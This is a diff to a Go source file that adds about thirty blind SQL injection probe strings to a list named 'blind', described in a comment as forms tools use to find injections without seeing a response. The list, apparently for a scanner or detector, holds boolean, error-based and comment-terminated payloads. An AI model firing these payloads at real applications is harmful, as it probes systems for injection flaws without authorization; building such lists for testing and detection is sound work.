@@ -10,6 +10,9 @@ import (
 // blind are the forms in which tools find injections without seeing an
 // answer: each goes on from a value of the application's.
 var blind = []string{
+	" AND 8594 BETWEEN 8594 AND 8594", "' AND 8594 NOT BETWEEN 1 AND 2 AND 'a' LIKE 'a", " AND 8594 IN (8594)", " AND 8594 GLOB 8594", " AND 8594 IS 8594", " AND GREATEST(8594,8595)=8595",
+	" && 8594 LIKE 8594", " XOR 8594=8595", " HAVING 8594=8594", "' AND LEAST(8594,8595)=8594 AND 'a'='a", " OR 8594 DIV 1", " AND 8594", " AND NOT 8594", "||8594", "' || 8594 LIKE 8594 || '", " AND 8594 REGEXP 8594", " AND 1=1 LIMIT 1", "*(8594=8594)",
+	" AND ISNULL(8594)=0", " AND IFNULL(8594,1)=8594", " AND STRCMP(1,1)=0", " AND LENGTH(version())>1", " AND SUBSTR((SELECT 1),1,1)=1", "'+(SELECT 'a')+'", "'-'", " AND 8594=8594 IS TRUE", " OR EXISTS(SELECT 1)", " AND TRUE", "' OR TRUE--",
 	" AND 8594=8594", ") AND 8594=8594 AND (3401=3401", "' AND 8594=8594 AND 'QlTx'='QlTx", "') AND 8594=8594 AND ('QlTx'='QlTx", "%' AND 8594=8594 AND 'QlTx%'='QlTx", "\" AND 8594=8594 AND \"QlTx\"=\"QlTx",
 	" OR 1=1-- Zqpw", "' OR NOT 1724=1724#", " AND 1=1 -- -", " RLIKE (SELECT (CASE WHEN (5482=5482) THEN 1 ELSE 0x28 END))", " AND MAKE_SET(1=1,3421)", " AND ELT(4421=4421,3421)", " AND (5421=5421)*3421",
 	" AND EXTRACTVALUE(6122,CONCAT(0x5c,0x7178627671,(SELECT (ELT(6122=6122,1))),0x716a6b7671))", "' AND UPDATEXML(1,CONCAT(0x2e,(SELECT version())),1) AND 'a'='a",
